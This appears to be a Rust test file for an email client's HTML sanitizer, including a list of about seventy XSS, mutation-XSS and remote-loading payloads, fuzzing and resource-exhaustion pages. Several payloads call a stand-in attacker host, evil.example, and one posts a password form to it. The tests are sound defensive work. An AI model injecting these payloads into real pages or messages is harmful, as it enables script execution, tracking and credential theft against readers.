@@ -1,0 +1,472 @@
+//! HTML through the front door: whatever a stranger writes, what comes out loads nothing, does
+//! nothing, and looks like nothing but text. Each result is read again as a browser reads it.
+
+use std::cell::RefCell;
+use std::time::{Duration, Instant};
+
+use html5ever::tendril::StrTendril;
+use html5ever::tokenizer::{
+    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
+};
+use proptest::prelude::*;
+use proptest::test_runner::{Config, RngAlgorithm, TestRng, TestRunner};
+use serde_json::{Value, json};
+
+use crate::harness::{Home, Host, amount, seal_one, shorten};
+use crate::smime::{Ca, two};
+use crate::trio::{ALICE, BOB, trios};
+
+fn host() -> (Home, Host) {
+    let home = Home::new();
+    let mut host = home.start();
+    host.hello();
+    (home, host)
+}
+
+/// A message with this page alone.
+fn message(html: &str) -> Vec<u8> {
+    format!(
+        "From: {ALICE}\r\nTo: {BOB}\r\nSubject: s\r\nContent-Type: text/html; charset=utf-8\r\n\
+         Content-Transfer-Encoding: 8bit\r\n\r\n{html}"
+    )
+    .into_bytes()
+}
+
+/// What becomes of a page: the description in the result, and the clean page itself.
+#[track_caller]
+fn cleaned(host: &mut Host, html: &str) -> (Value, String) {
+    let opened = host.open(&message(html)).unwrap();
+    let page = opened["parts"][0]["html"].clone();
+    assert!(page.is_object(), "{html}: {}", shorten(&opened));
+    let clean = host.bytes(&page["clean"]);
+    (page, String::from_utf8(clean).unwrap())
+}
+
+/// What may stand in a clean page: elements, and their attributes.
+fn is_allowed(element: &str, attribute: &str) -> bool {
+    match attribute {
+        "dir" | "lang" => true,
+        "data-link" => element == "a",
+        "data-cid" | "alt" => element == "img",
+        "colspan" | "rowspan" => matches!(element, "td" | "th"),
+        "start" => element == "ol",
+        _ => false,
+    }
+}
+
+const ELEMENTS: &str = " a abbr acronym address article aside b bdi big blockquote br caption \
+    center cite code col colgroup dd del dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 \
+    h6 header hr i img ins kbd li mark ol p pre q s samp section small span strike strong sub sup \
+    table tbody td th tr u ul ";
+
+/// What is wrong with a clean page: everything in it that is not on the lists.
+fn faults(clean: &str) -> Vec<String> {
+    struct Sink(RefCell<Vec<String>>);
+    impl TokenSink for Sink {
+        type Handle = ();
+        fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
+            let mut faults = self.0.borrow_mut();
+            match token {
+                Token::TagToken(tag) => {
+                    let name = tag.name.to_string();
+                    if !ELEMENTS.contains(&format!(" {name} ")) {
+                        faults.push(format!("element {name}"));
+                    }
+                    for attribute in &tag.attrs {
+                        let key = attribute.name.local.to_string();
+                        let closing = tag.kind == TagKind::EndTag;
+                        if closing || !is_allowed(&name, &key) {
+                            faults.push(format!("attribute {name} {key}"));
+                        }
+                        let value = attribute.value.to_string();
+                        if key == "data-link" && value.parse::<usize>().is_err() {
+                            faults.push(format!("link {value}"));
+                        }
+                    }
+                }
+                Token::CharacterTokens(_) | Token::EOFToken => {}
+                Token::ParseError(_) => {}
+                other => faults.push(format!("{other:?}")),
+            }
+            TokenSinkResult::Continue
+        }
+    }
+    let input = BufferQueue::default();
+    input.push_back(StrTendril::from_slice(clean));
+    let tokenizer = Tokenizer::new(Sink(RefCell::new(Vec::new())), TokenizerOpts::default());
+    let _ = tokenizer.feed(&input);
+    tokenizer.end();
+    tokenizer.sink.0.into_inner()
+}
+
+/// Pages that reach out, act, hide, or are read in two ways.
+const HOSTILE: &[&str] = &[
+    "<img src=http://evil.example/a.png>",
+    "<img srcset=\"http://evil.example/a.png 1x, //evil.example/b 2x\" src=x>",
+    "<picture><source srcset=//evil.example/a><img src=//evil.example/b></picture>",
+    "<img src=\"\\\\evil.example\\share\\a.png\">",
+    "<img src=file:///etc/passwd><img src=data:image/svg+xml,<svg/onload=alert(1)>>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='cid:x' onload=alert(1) style='position:fixed'>",
+    "<body background=http://evil.example/a onload=alert(1) text=white>hello",
+    "<table background=//evil.example/a><tr><td background=//evil.example/b>x</table>",
+    "<video src=//evil.example/v poster=//evil.example/p autoplay></video>",
+    "<audio src=//evil.example/a autoplay></audio><track src=//evil.example/t>",
+    "<iframe src=//evil.example></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=//evil.example/o><embed src=//evil.example/e></object><applet code=x></applet>",
+    "<link rel=stylesheet href=//evil.example/s><link rel=dns-prefetch href=//evil.example>",
+    "<link rel=preload as=image href=//evil.example/p><link rel=icon href=//evil.example/i>",
+    "<base href=http://evil.example/><a href=x>x</a>",
+    "<meta http-equiv=refresh content='0; url=http://evil.example'>",
+    "<meta http-equiv=Set-Cookie content=x><meta http-equiv=Content-Security-Policy content=x>",
+    "<style>@import url(//evil.example/s); body{background:url(//evil.example/b)}</style>",
+    "<style>@import '//evil.example/s'</style><p style='background:url(//evil.example/b)'>x",
+    "<p style='background:u\\72l(//evil.example/b)'>x<p style=\"background:image-set('//evil.example/i' 1x)\">",
+    "<p style='width:expression(alert(1))'>x<p style='behavior:url(x.htc)'>x<p style='-moz-binding:url(x)'>",
+    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>Verified</div>",
+    "<p style='content:url(//evil.example/c);cursor:url(//evil.example/d),auto'>x",
+    "<form action=//evil.example><input name=p type=password><button>Go</button></form>",
+    "<button formaction=//evil.example>x</button><isindex action=//evil.example>",
+    "<input type=image src=//evil.example/i><keygen><select><option>x</select><textarea>x</textarea>",
+    "<script>alert(1)</script><script src=//evil.example/s></script>",
+    "<SCRIPT SRC=//evil.example/s></SCRIPT ><scr<script>ipt>alert(1)</script>",
+    "<a href=javascript:alert(1)>x</a><a href=' &#1;javascript:alert(1)'>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a><a href='java\nscript:alert(1)'>x</a>",
+    "<a href=data:text/html,<script>alert(1)</script>>x</a><a href=vbscript:x>x</a>",
+    "<a href=//evil.example/relative>x</a><a href=/x>x</a><a href=?x>x</a><a href=#x>x</a>",
+    "<a href=blob:https://x/y>x</a><a href=about:blank>x</a><a href=view-source:x>x</a>",
+    "<a href=http://ok.example ping=//evil.example target=_top download>x</a>",
+    "<a href=http://ok.example onclick=alert(1) onmouseover=alert(1) id=x name=x class=x>x</a>",
+    "<area href=//evil.example><map name=m><area href=http://evil.example></map>",
+    "<svg onload=alert(1)><image href=//evil.example/i /><use xlink:href=//evil.example/u /></svg>",
+    "<svg><script>alert(1)</script><style>@import '//evil.example'</style><a xlink:href=javascript:x>x</a></svg>",
+    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<svg><desc><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
+    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext><img src=x onerror=alert(1)>",
+    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"><noframes><img title=\"</noframes><img src=x onerror=1>\">",
+    "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
+    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->",
+    "<!--[if IE]><img src=x onerror=alert(1)><![endif]--><![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml-stylesheet href=//evil.example?><!DOCTYPE x [<!ENTITY x SYSTEM '//evil.example'>]>&x;",
+    "<img alt=\"<img src=x onerror=alert(1)>\" src=cid:x><img alt='\"><script>alert(1)</script>' src=cid:x>",
+    "<p dir='\"><img src=x onerror=alert(1)>' lang='x onload=alert(1)'>x",
+    "<img src=\"cid:a&quot; onerror=alert(1) x=&quot;\"><img src=cid:%22%3E%3Cscript%3E>",
+    "<a href=\"http://ok.example/&quot; onclick=&quot;alert(1)\">x</a><a href='http://ok.example/<script>'>x</a>",
+    "<p id=body name=documentElement><a id=defaultView><form id=cookie><img name=getElementById>",
+    "<template><img src=x onerror=alert(1)></template><slot name=x><dialog open>x</dialog>",
+    "<details open ontoggle=alert(1)><summary>x</summary>hidden</details><marquee onstart=alert(1)>x</marquee>",
+    "<portal src=//evil.example><frameset><frame src=//evil.example></frameset><fencedframe src=x>",
+    "<custom-element onclick=alert(1) is=x>x</custom-element><x onclick=alert(1)>x</x>",
+    "<p/onclick=alert(1)/style=x>x<p\x0conclick=alert(1)>x<p\x00onclick=alert(1)>x",
+    "<\x00script>alert(1)</script><img\x00 src=x onerror=alert(1)><a href=java\x00script:alert(1)>x</a>",
+    "<img src=x:x onerror=alert(1) ><img src='x' 'onerror=alert(1)'><img src=`x`onerror=alert(1)>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<b><i></b><img src=x onerror=alert(1)></i><table><b><tr><td></b><img src=x onerror=1></table>",
+    "<select><style></select><img src=x onerror=alert(1)></style>",
+    "</body></html><script>alert(1)</script><head><base href=//evil.example><body onload=alert(1)>",
+    "<bdo dir=rtl>elpmaxe.live</bdo><font color=white size=1>hidden</font><blink>x</blink>",
+    "<p hidden>covert</p><span style=display:none>covert</span><div style='height:0;overflow:hidden'>covert</div>",
+];
+
+#[test]
+fn nothing_reaches_out_or_acts() {
+    let (_home, mut host) = host();
+    for html in HOSTILE {
+        let (page, clean) = cleaned(&mut host, html);
+        let faults = faults(&clean);
+        assert!(faults.is_empty(), "{html}\n{clean}\n{faults:?}");
+        // No address stands in it, but as words.
+        for link in page["links"].as_array().unwrap() {
+            let url = link["url"].as_str().unwrap();
+            assert!(url.starts_with("http://ok.example"), "{html}: {url}");
+        }
+        // Read and cleaned once more, no more is lost: it was read as it was meant.
+        let (_, again) = cleaned(&mut host, &clean);
+        let numbers = |text: &str| {
+            let mut out = text.to_owned();
+            while let Some(at) = out.find(" data-link=\"") {
+                let end = out[at + 12..].find('"').unwrap() + at + 13;
+                out.replace_range(at..end, "");
+            }
+            while let Some(at) = out.find("<img ") {
+                let end = out[at..].find('>').unwrap() + at + 1;
+                out.replace_range(at..end, "");
+            }
+            out
+        };
+        // An image is its words then.
+        if !clean.contains("<img") {
+            assert_eq!(numbers(&clean), again, "{html}");
+        }
+    }
+}
+
+#[test]
+fn what_was_taken_out_is_counted() {
+    let (_home, mut host) = host();
+    for (html, remote, forms, scripts) in [
+        ("<p>plain</p>", 0, 0, 0),
+        (
+            "<img src=http://a.example/x><img src=cid:y><img src=data:x>",
+            1,
+            0,
+            0,
+        ),
+        (
+            "<p style='background:url(http://a.example)'>x<link rel=x href=//y>",
+            2,
+            0,
+            0,
+        ),
+        (
+            "<meta http-equiv=refresh content=0><body background=//x>",
+            2,
+            0,
+            0,
+        ),
+        ("<form action=//x><input><button>x</button></form>", 1, 3, 0),
+        (
+            "<script>x</script><p onclick=x>y<a href=javascript:x>z</a>",
+            0,
+            0,
+            3,
+        ),
+    ] {
+        let (page, _) = cleaned(&mut host, html);
+        let expected = json!({"remote": remote, "forms": forms, "scripts": scripts});
+        assert_eq!(page["removed"], expected, "{html}");
+    }
+}
+
+#[test]
+fn links_and_images_are_handed_out_as_data() {
+    for mut trio in trios() {
+        let html = "<p>see <a href=\"https://a.example/?x=1&amp;y=2\">this</a>, \
+            <a href=\"mailto:b@a.example\">mail</a>, <a href=javascript:x>that</a>\
+            <img src=\"cid:one@x\" alt=\"A picture\"><img src=\"cid:two%40x\">\
+            <img src=cid:none@x alt=gone><img src=cid:doc@x><img src=http://a.example/p alt=far></p>";
+        let draft = json!({
+            "from": ALICE, "to": [BOB], "subject": "s", "html": {"text": html},
+            "attachments": [
+                {"name": "1.png", "type": "image/png", "body": {"base64": "iVBORw=="}, "contentId": "one@x"},
+                {"name": "2.gif", "type": "image/gif", "body": {"base64": "R0lGOA=="}, "contentId": "two@x"},
+                {"name": "d.svg", "type": "image/svg+xml", "body": {"text": "<svg/>"}, "contentId": "doc@x"},
+            ],
+        });
+        let protect = json!({"sign": true, "encrypt": true, "protocol": trio.family});
+        let message = seal_one(&mut trio.alice, draft, protect);
+        let opened = trio.bob.open(&message).unwrap();
+        let part = opened["parts"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|part| part["type"] == "text/html");
+        let page = &part.unwrap()["html"];
+        let clean = String::from_utf8(trio.bob.bytes(&page["clean"].clone())).unwrap();
+        assert_eq!(
+            clean,
+            "<p>see <a data-link=\"1\">this</a>, <a data-link=\"2\">mail</a>, <a>that</a>\
+             <img data-cid=\"one@x\" alt=\"A picture\"><img data-cid=\"two@x\" alt=\"\">\
+             <img data-cid=\"none@x\" alt=\"gone\"><img data-cid=\"doc@x\" alt=\"\">[far]</p>\r\n"
+                .replace("\r\n", "")
+        );
+        assert_eq!(
+            page["links"],
+            json!([{"n": 1, "url": "https://a.example/?x=1&y=2"}, {"n": 2, "url": "mailto:b@a.example"}])
+        );
+        let id = |cid: &str| {
+            let parts = opened["parts"].as_array().unwrap().iter();
+            parts.clone().find(|part| part["contentId"] == cid).unwrap()["id"].clone()
+        };
+        assert_eq!(
+            page["cids"],
+            json!([{"contentId": "one@x", "part": id("one@x")}, {"contentId": "two@x", "part": id("two@x")}])
+        );
+        // What may be quoted is the same as text.
+        let quote = String::from_utf8(trio.bob.bytes(&opened["quote"].clone())).unwrap();
+        assert_eq!(
+            quote,
+            "see this <https://a.example/?x=1&y=2>, mail <b@a.example>, that[A picture][gone][far]\n"
+        );
+    }
+}
+
+/// An image under other layers than the page is somebody else's: it is never joined to it.
+#[test]
+fn images_of_another_layer_are_not_joined() {
+    let mut trio = crate::trio::Trio::openpgp();
+    let inner = "Content-Type: image/png\r\nContent-ID: <i@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw==\r\n";
+    let params = json!({"payload": {"text": inner}, "form": "payload", "to": [BOB],
+        "protect": {"encrypt": true, "protocol": "openpgp"}});
+    let sealed = trio.alice.good("message/seal", params);
+    let armor = String::from_utf8(trio.alice.bytes(&sealed["payload"].clone())).unwrap();
+    let page = "Content-Type: text/html\r\n\r\n<img src=cid:i@x alt=x>\r\n";
+    let mixed = crate::mime::mixed(&[page, &crate::mime::encrypted(&armor)]);
+    let opened = trio
+        .bob
+        .open(format!("From: {ALICE}\r\nTo: {BOB}\r\n{mixed}").as_bytes())
+        .unwrap();
+    assert_eq!(
+        opened["parts"][1]["contentId"],
+        "i@x",
+        "{}",
+        shorten(&opened)
+    );
+    assert_eq!(opened["parts"][0]["html"]["cids"], json!([]));
+}
+
+/// CBC without a signature inside: text alone, with nothing in it that leads anywhere.
+#[test]
+fn what_nothing_vouches_for_is_text() {
+    let Some(ca) = Ca::new() else { return };
+    let (_a, mut alice, _b, mut bob) = two(&ca, "rsa:2048");
+    let html = "<p>Hello <a href=\"http://evil.example/x\">there</a> <img src=cid:i@x alt=pic> &lt;b&gt;</p><p>two</p>";
+    for (sign, warned) in [(false, true), (true, false)] {
+        let draft = json!({"from": crate::smime::ALICE, "to": [crate::smime::BOB], "subject": "s",
+            "html": {"text": html},
+            "attachments": [{"name": "i.png", "type": "image/png", "body": {"base64": "iVBORw=="}, "contentId": "i@x"}]});
+        let protect = json!({"encrypt": true, "sign": sign, "protocol": "smime", "cipher": "cbc"});
+        let message = seal_one(&mut alice, draft, protect);
+        let opened = bob.open(&message).unwrap();
+        let warnings = opened["summary"]["warnings"].to_string();
+        assert_eq!(warnings.contains("unauthenticated"), warned, "{warnings}");
+        let parts = opened["parts"].as_array().unwrap();
+        let part = parts
+            .iter()
+            .find(|part| part["type"] == "text/html")
+            .unwrap();
+        let clean = String::from_utf8(bob.bytes(&part["html"]["clean"].clone())).unwrap();
+        assert!(faults(&clean).is_empty());
+        let links = part["html"]["links"].as_array().unwrap().len()
+            + part["html"]["cids"].as_array().unwrap().len();
+        if warned {
+            assert_eq!(part["size"], 0);
+            assert_eq!(links, 0);
+            assert_eq!(
+                clean,
+                "Hello there &lt;http://evil.example/x&gt; [pic] &lt;b&gt;<br><br>two<br>"
+            );
+        } else {
+            assert_eq!(links, 2);
+            assert!(part["size"].as_u64().unwrap() > 0);
+        }
+    }
+}
+
+/// Pages that are built to keep their reader busy.
+#[test]
+fn a_page_keeps_nobody_busy() {
+    let (_home, mut host) = host();
+    let many = |text: &str, n: usize| text.repeat(n);
+    let pages = [
+        many("<div>", 100_000),
+        many("<b><i><u>", 50_000),
+        many("<table><tr><td>", 30_000),
+        format!("{}{}", many("<p>", 90_000), many("</p>", 90_000)),
+        many("<a href=x>", 100_000),
+        format!("<p {}>", many("x=y ", 300_000)),
+        format!("<img alt=\"{}\">", many("x", 1 << 20)),
+        many("&amp;", 200_000),
+        many("&CounterClockwiseContourIntegral;", 50_000),
+        many("<!--", 200_000),
+        many("<", 1 << 20),
+        many("<font color=x>", 100_000),
+        many("<li>", 90_000),
+        many("<blockquote>", 200),
+        format!("{}x", many("<ul><li>", 120)),
+        many("x", 3 << 20),
+        many("</p>", 90_000),
+        many("<svg><math>", 50_000),
+        many("<select><option>", 50_000),
+    ];
+    for html in pages {
+        let start = Instant::now();
+        let opened = host.open(&message(&html)).unwrap();
+        let took = start.elapsed();
+        assert!(took < Duration::from_secs(20), "{took:?}: {}", &html[..20]);
+        let page = opened["parts"][0]["html"].clone();
+        if page.is_object() {
+            let clean = String::from_utf8(host.bytes(&page["clean"])).unwrap();
+            assert!(faults(&clean).is_empty());
+        }
+        assert!(
+            host.peak_kib() < 600 << 10,
+            "{} {} KiB",
+            &html[..20],
+            host.peak_kib()
+        );
+    }
+}
+
+/// Random pages out of the pieces that hostile ones are made of.
+#[test]
+fn random_pages_stay_on_the_list() {
+    let (_home, host) = host();
+    let host = RefCell::new(host);
+    let pieces: Vec<String> = HOSTILE
+        .iter()
+        .flat_map(|page| page.split_inclusive(['<', '>', '"', ' ', '=', '\'']))
+        .map(str::to_owned)
+        .collect();
+    let page = proptest::collection::vec(proptest::sample::select(pieces), 1..60);
+    let config = Config {
+        cases: u32::try_from(amount(400, 20_000)).unwrap(),
+        failure_persistence: None,
+        ..Config::default()
+    };
+    let rng = TestRng::deterministic_rng(RngAlgorithm::ChaCha);
+    let ran = TestRunner::new_with_rng(config, rng).run(&page, |pieces| {
+        let html = pieces.concat();
+        let (_, clean) = cleaned(&mut host.borrow_mut(), &html);
+        let faults = faults(&clean);
+        prop_assert!(faults.is_empty(), "{html}\n{clean}\n{faults:?}");
+        Ok(())
+    });
+    ran.unwrap();
+}
+
+#[test]
+fn pages_read_well_as_text() {
+    let (_home, mut host) = host();
+    for (html, text) in [
+        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree\n"),
+        ("a  b\n c<b>d</b> e", "a b cd e\n"),
+        (
+            "<ul><li>one<li>two<ol><li>a<li>b</ol></ul>end",
+            "- one\n- two\n  1. a\n  2. b\n\nend\n",
+        ),
+        (
+            "<p>x<blockquote>q<blockquote>r</blockquote></blockquote>y",
+            "x\n\n> q\n>\n>> r\n\ny\n",
+        ),
+        (
+            "<table><tr><td>a<td>b<tr><td>c<td>d</table>",
+            "a  b\nc  d\n",
+        ),
+        ("<pre>a\n  b\n</pre>c", "a\n  b\n\nc\n"),
+        (
+            "<a href=http://x.example/>http://x.example/</a> <a href=mailto:a@x.example>a@x.example</a>",
+            "http://x.example/ a@x.example\n",
+        ),
+        (
+            "<h1>T</h1><div>a</div><div>b</div><hr>c",
+            "T\n\na\nb\n\n----\n\nc\n",
+        ),
+        (
+            "<head><title>no</title><style>no</style></head><body>yes<!-- no --><script>no</script>",
+            "yes\n",
+        ),
+        ("&lt;b&gt; &amp; &eacute;&nbsp;x", "<b> & é\u{a0}x\n"),
+    ] {
+        let opened = host.open(&message(html)).unwrap();
+        let quote = String::from_utf8(host.bytes(&opened["quote"].clone())).unwrap();
+        assert_eq!(quote, text, "{html}");
+    }
+}
